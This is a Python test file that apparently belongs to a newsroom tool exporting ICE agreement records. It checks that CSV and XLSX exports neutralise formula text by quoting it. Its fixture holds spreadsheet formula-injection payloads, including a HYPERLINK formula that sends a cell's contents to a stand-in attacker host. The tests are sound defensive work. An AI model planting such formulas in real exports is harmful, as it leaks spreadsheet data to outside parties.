"""Exports open in a newsroom's spreadsheet: text from ICE's sheet can never run there as a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os

import openpyxl

from storage.export import COLUMNS, current_rows, render
from tests.support.tracker import run_cli
from tests.support.workbooks import HEADER
from tests.test_store import apply

HOSTILE = {"LAW ENFORCEMENT AGENCY": '=HYPERLINK("https://evil.example/?"&A1,"Ocala Police Department")',
           "TYPE": "@SUM(1+1)", "COUNTY": "+1-2 County"}


def text_workbook() -> bytes:
    """A sheet whose cells hold text starting with `=`, `+`, `@`, typed as text (not as formulas)."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(HEADER)
    values = {"STATE": "FLORIDA", "SUPPORT TYPE": "Task Force Model", "SIGNED": dt.datetime(2025, 4, 24),
              "MOA": "link pending", **HOSTILE}
    sheet.append([values.get(name) for name in HEADER])
    sheet.append(["FLORIDA", "Marion County Sheriff's Office", "County", "Marion County", "Jail Enforcement Model",
                  dt.datetime(2025, 2, 20), "link pending"])
    for name in HOSTILE:
        sheet.cell(row=2, column=HEADER.index(name) + 1).data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_csv_and_xlsx_exports_quote_formula_text_and_keep_dates_and_flags(tmp_path):
    from storage.db import connect

    sessions = connect(f"sqlite:///{tmp_path / 'store.db'}")
    apply(sessions, tmp_path, text_workbook(), 0)
    with sessions() as session:
        rows = sorted(current_rows(session), key=lambda r: r["agency"])
    assert rows[0]["agency"] == HOSTILE["LAW ENFORCEMENT AGENCY"]  # stored as ICE wrote it

    (tmp_path / "a.csv").write_bytes(render(rows, "csv"))
    exported = list(csv.DictReader((tmp_path / "a.csv").open(encoding="utf-8")))
    assert exported[0]["agency"] == "'" + HOSTILE["LAW ENFORCEMENT AGENCY"]
    assert exported[0]["agency_type"] == "'@SUM(1+1)" and exported[0]["county"] == "'+1-2 County"
    assert exported[0]["signed"] == "2025-04-24" and exported[0]["was_pending"] == "false"
    assert exported[1]["agency"] == "Marion County Sheriff's Office"

    (tmp_path / "a.xlsx").write_bytes(render(rows, "xlsx"))
    sheet = openpyxl.load_workbook(tmp_path / "a.xlsx").active
    cells = {name: sheet.cell(row=2, column=COLUMNS.index(name) + 1) for name in ("agency", "signed", "county")}
    assert cells["agency"].data_type == "s" and cells["agency"].value == "'" + HOSTILE["LAW ENFORCEMENT AGENCY"]
    assert cells["county"].value == "'+1-2 County"
    assert cells["signed"].is_date and cells["signed"].value.date().isoformat() == "2025-04-24"
    assert not any(cell.data_type == "f" for line in sheet.iter_rows() for cell in line)


def test_the_events_csv_quotes_formula_text_like_the_exports(tmp_path):
    from storage.db import connect

    database_url = f"sqlite:///{tmp_path / 'store.db'}"
    sessions = connect(database_url)
    apply(sessions, tmp_path, text_workbook(), 0)
    sessions.kw["bind"].dispose()
    env = {k: v for k, v in os.environ.items() if not k.startswith("DATABASE_")}
    result = run_cli({**env, "DATABASE_URL": database_url, "DATA_DIR": str(tmp_path / "data")},
                     "events", "--format", "csv")
    assert result.returncode == 0, result.stderr
    events = sorted(csv.DictReader(io.StringIO(result.stdout)), key=lambda r: r["agency"])
    assert events[0]["agency"] == "'" + HOSTILE["LAW ENFORCEMENT AGENCY"]
    assert events[0]["agency_type"] == "'@SUM(1+1)" and events[0]["county"] == "'+1-2 County"
    assert events[0]["signed"] == "2025-04-24" and events[0]["was_pending"] == "false"
    assert events[1]["agency"] == "Marion County Sheriff's Office"
